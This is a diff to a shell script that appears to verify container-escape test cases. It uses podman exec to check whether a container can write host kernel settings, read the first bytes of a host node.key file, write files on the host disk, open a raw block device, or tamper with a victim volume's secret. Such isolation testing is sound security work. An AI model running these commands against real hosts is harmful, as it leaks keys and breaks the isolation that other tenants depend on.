@@ -57,7 +57,7 @@ for mode in "$@"; do
       podman exec attack30f-src sh -c "grep ' /sys ' /proc/self/mountinfo; echo $want > $f" 2>&1; echo "exec rc=$?"
       now=$(cat $f); echo "host $f: before $before, now $now"; [ "$now" = $want ] && echo "HOST KERNEL STATE written from the container"
       echo $before > $f;;
-    autoext4|overlayhost|specbind|sysadmin|selfdd*|selfvol)
+    autoext4|overlayhost|specbind|sysadmin|selfdd*)
       podman exec attack30f-src sh -c 'grep " /mnt " /proc/self/mountinfo; ls /mnt | head -30 | tr "\n" " "; echo; head -c 60 /mnt/etc/gpuckpt/node.key | od -c | head -2; echo attack30f-from-container > /mnt/var/tmp/attack30f/disk-write' 2>&1; echo "exec rc=$?"
       [ -e $D/disk-write ] && echo "HOST FILE written from the container: $(ls -la $D/disk-write)";;
     cgprop)
@@ -82,7 +82,7 @@ for mode in "$@"; do
       for n in mnt uts ipc pid user; do echo "host $n $(readlink /proc/self/ns/$n)"; done;;
     hook) ls -la /var/tmp/attack30f/hook-ran 2>&1 && cat /var/tmp/attack30f/hook-ran && echo "HOOK RAN ON THE HOST"; rm -f /var/tmp/attack30f/hook-ran;;
     mntdumper) podman exec attack30f-src sh -c 'readlink /proc/self/ns/mnt; grep -E " / | /mnt " /proc/self/mountinfo | head -3; ls / | tr "\n" " "; ls /etc/gpuckpt 2>&1' 2>&1; echo "exec rc=$?"; echo "host mnt ns: $(readlink /proc/self/ns/mnt)";;
-    cgdev)
+    cgdev|devrule|devlist)
       podman exec attack30f-src sh -c 'grep devices /proc/self/cgroup; ls -la /dev/attack30f-vda; echo "ext4 magic at 1080 of /dev/attack30f-vda: $(head -c 1082 /dev/attack30f-vda | tail -c 2 | od -An -tx1)"; exec 3<>/dev/attack30f-vda && echo "opened /dev/attack30f-vda read-write"' 2>&1; echo "exec rc=$?";;
     cgprocs*)
       echo "host victim process $VICTIM_PID after: $(grep -E 'freezer|pids' /proc/$VICTIM_PID/cgroup | tr '\n' ' ') $(grep State /proc/$VICTIM_PID/status)"
@@ -92,6 +92,7 @@ for mode in "$@"; do
         echo $VICTIM_PID > /sys/fs/cgroup/$c/cgroup.procs; rmdir $g && echo "removed $g"; done
       kill $VICTIM_PID;;
     extroot) podman exec attack30f-src sh -c 'grep " /dev/shm " /proc/self/mountinfo; ls /dev/shm | head | tr "\n" " "' 2>&1; echo "exec rc=$?";;
+    selfvol) podman exec attack30f-src sh -c "grep \" /mnt \" /proc/self/mountinfo; cat /mnt/secret; echo tampered > /mnt/secret" 2>&1; echo "exec rc=$?; victim volume now: $(cat /var/lib/containers/storage/volumes/attack30f-victimvol/_data/secret)";;
     *) podman exec attack30f-src sh -c 'grep " /mnt " /proc/self/mountinfo; ls /mnt | head -40 | tr "\n" " "' 2>&1; echo "exec rc=$?";;
   esac
   podman rm -f -t 0 attack30f-src >/dev/null 2>&1
